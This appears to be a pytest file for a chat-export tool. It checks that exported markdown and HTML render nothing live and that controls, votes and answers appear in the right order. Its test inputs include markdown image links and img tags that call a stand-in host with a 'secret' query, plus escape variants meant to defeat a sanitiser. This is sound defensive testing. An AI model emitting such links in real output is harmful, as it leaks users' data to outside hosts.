"""Chats as files: what an export shows, and what it does not do."""

import html

import pytest

from rostra.console.exporting import FORMATS, Exported, inert
from rostra.protocol import Answer, ChatMessage, Proposal, Question, Tally
from rostra.protocol.chat import ChatInfo, Control, InboxItem, Record, Why


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://stranger/?q=secret)",
        "\\![x](http://stranger/?q=secret)",
        "![x][1]\n\n[1]: http://stranger/?q=secret",
        "<img src='http://stranger/?q=secret'>",
        "\\<img src='http://stranger/?q=secret'>",
        "```a`b\n![x](http://stranger/)",
        "- a\n  ```\n![x](http://stranger/)",
        "```\ncode\n   ```\n![x](http://stranger/)",
        "```\rcode\r```\r![x](http://stranger/)",
        "<!DOCTYPE html>",
    ],
)
def test_exported_markdown_loads_nothing_when_it_is_shown(text: str) -> None:
    shown = inert(text)
    assert "![x]" not in shown
    assert "<" not in shown


def test_exported_markdown_keeps_code_as_it_is() -> None:
    code = "before\n```html\n<b>![x](y)</b>\n```\nafter"
    assert inert(code) == code
    assert inert("a < b, 1 <2, hot!") == "a < b, 1 <2, hot!"
    assert inert("```\nleft open") == "```\nleft open\n```"


def exported() -> Exported:
    """A chat with an approval, a control, a vote, and a part that was taken back."""
    question = Question(text="Run it?", agent="ada", kind="code", detail="```py\n<b>![x](y)</b>\n```", digest="d" * 64)
    answer = Answer(text="yes", by="anna@laptop", origin="console-1", at_ms=60_000, digest="d" * 64)
    item = InboxItem(number=1, question=question, asked_ms=30_000, answer=answer)
    tally = Tally(proposal=Proposal(text="Ship?", options=("yes", "no")), winner="yes", reason="so")
    said = [ChatMessage(content=text, name="ada", sequence=place) for place, text in enumerate(("one", "two"), 1)]
    controls = {
        2: Control(what="answer", by="anna@laptop", agent="ada", item=item),
        4: Control(what="mute", by="console-1", agent="bob", reason="<i>loud</i>"),
        6: Control(what="rewind", by="console-1", sequence=1),
    }
    records = [
        Record(number=1, kind="opening", turn=b"", epoch=1, speaker="ada", state="done", sequence=1),
        Record(number=2, kind="control", turn=b"", epoch=1, speaker="anna", state="done", control=controls[2], done_ms=60_000),
        Record(number=3, kind="turn", turn=b"", epoch=1, speaker="ada", state="done", sequence=2, rewound=6),
        Record(
            number=4, kind="control", turn=b"", epoch=1, speaker="console-1", state="done", control=controls[4], done_ms=90_000
        ),
        Record(
            number=6, kind="control", turn=b"", epoch=1, speaker="console-1", state="done", control=controls[6], done_ms=95_000
        ),
        Record(number=7, kind="turn", turn=b"", epoch=1, speaker="ada", state="done", sequence=2),
        Record(
            number=8,
            kind="vote",
            turn=b"",
            epoch=1,
            speaker="ada",
            state="done",
            why=Why(sequence=2, speaker="", reason="r", tally=tally),
        ),
    ]
    return Exported(chat=ChatInfo(chat="c1", state="ended", task="one"), messages=tuple(said), records=tuple(records))


@pytest.mark.parametrize("format_", ["md", "html"])
def test_controls_votes_and_answers_stand_between_the_messages(format_: str) -> None:
    text = FORMATS[format_](exported())
    plain = html.unescape(text)
    wanted = [
        "ada",
        "anna@laptop at console-1 answered ada: yes",
        "Run it?",
        "digest: dddd",
        "![x](y)",
        "console-1 muted bob",
        "console-1 rewound the chat to message 1",
        "two",
        "Vote called by ada: r",
    ]
    places = [plain.index(one) for one in wanted]
    assert places == sorted(places)
    assert "<i>" not in text
    if format_ == "html":
        assert "<b>" not in text
    else:
        assert "> ````\n> ```py\n> <b>![x](y)</b>\n> ```\n> ````" in text
